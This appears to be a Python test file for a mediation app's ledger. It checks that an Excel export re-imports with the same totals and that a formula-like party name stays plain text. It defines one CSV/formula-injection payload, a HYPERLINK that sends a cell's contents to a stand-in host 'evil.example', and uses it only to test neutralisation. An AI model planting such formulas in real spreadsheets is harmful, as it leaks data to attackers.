"""The ledger out and in again: an export imported into an empty centre reproduces
the centre's totals exactly, and a party name written as a formula stays text."""

import io
from decimal import Decimal

from openpyxl import load_workbook

from mediation_app.cases.models import Case
from mediation_app.court.models import Payment
from mediation_app.extensions import db
from mediation_app.ledger.columns import COLUMNS
from mediation_app.ledger.operations import import_ledger
from mediation_app.ledger.queries import ledger_rows
from mediation_app.parties.operations import create_centre, create_user
from mediation_app.reporting.operations import record_performance
from mediation_app.reporting.queries import totals, totals_differences
from mediation_app.spreadsheets import write_workbook
from mediation_app.transactions import committed
from tests.factories import PASSWORD, uscc
from workflows.deadlines import local_date

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A2,"点此查看")'


def _history(world) -> None:
    """Cases in every state, two of them from the court, one party named like a formula,
    and a payment under one agreement."""
    for state in ("filed", "assigned", "mediated", "settled", "referred_to_court", "rejected", "withdrawn"):
        world.case(state)
    world.case("settled", claim_amount="123456.78", dispute_type="loan")
    world.case("settled", source="court_delegated", court_case_number="(2024)苏0621民诉前调5号")
    world.case("referred_to_court", source="court_commissioned", court_case_number="(2024)苏0621民初6号")
    world.case("mediated", applicant={"name": HOSTILE, "uscc": uscc(50)})
    with world.app.app_context(), committed():
        case = db.session.query(Case).filter_by(claim_amount=Decimal("123456.78")).one()
        payment = Payment(
            case_id=case.id,
            amount=Decimal("100000.01"),
            paid_on=local_date(case.concluded_at),
            recorded_by_id=world.staff.id,
        )
        db.session.add(payment)
        record_performance(case, payment.amount, payment.paid_on)


def _export(centre_id: int) -> bytes:
    buffer = io.BytesIO()
    write_workbook(buffer, COLUMNS, ledger_rows(Case.centre_id == centre_id), title="台账")
    return buffer.getvalue()


def test_an_export_imported_into_an_empty_centre_reproduces_its_totals(world, app):
    _history(world)
    with app.app_context():
        content = _export(world.centre_id)
        original = totals(world.centre_id)
        create_centre("empty", "空白调解中心", "空商调")
        staff = create_user(role="staff", email="staff@empty.example", password=PASSWORD, centre_code="empty")
        for name in ("mediator", "other-mediator"):  # the mediators, by name, in the new centre
            create_user(
                role="mediator",
                email=f"{name}@empty.example",
                password=PASSWORD,
                name=name,
                centre_code="empty",
            )
        result = import_ledger(staff, io.BytesIO(content), file_name="export.xlsx")
        assert (result.rows, result.imported, result.problems) == (11, 11, [])
        copied = totals(staff.centre_id)
        assert copied.as_dict() == original.as_dict()
        assert copied.performed_amount == Decimal("100000.01")
        assert totals_differences(staff.centre_id) == []
        assert _rows_without_court(_export(staff.centre_id)) == _rows_without_court(content)


def _rows_without_court(content: bytes) -> list[tuple]:
    """The ledger's cells; the export carries no court, so the copy is the same ledger."""
    sheet = load_workbook(io.BytesIO(content)).active
    return [tuple(cell.value for cell in row) for row in sheet.iter_rows()]


def test_a_party_named_like_a_formula_is_exported_as_plain_text(world, app):
    world.case("mediated", applicant={"name": HOSTILE, "uscc": uscc(50)})
    with app.app_context():
        sheet = load_workbook(io.BytesIO(_export(world.centre_id))).active
    cell = sheet["D2"]
    assert (cell.value, cell.data_type, cell.quotePrefix) == (HOSTILE, "s", True)
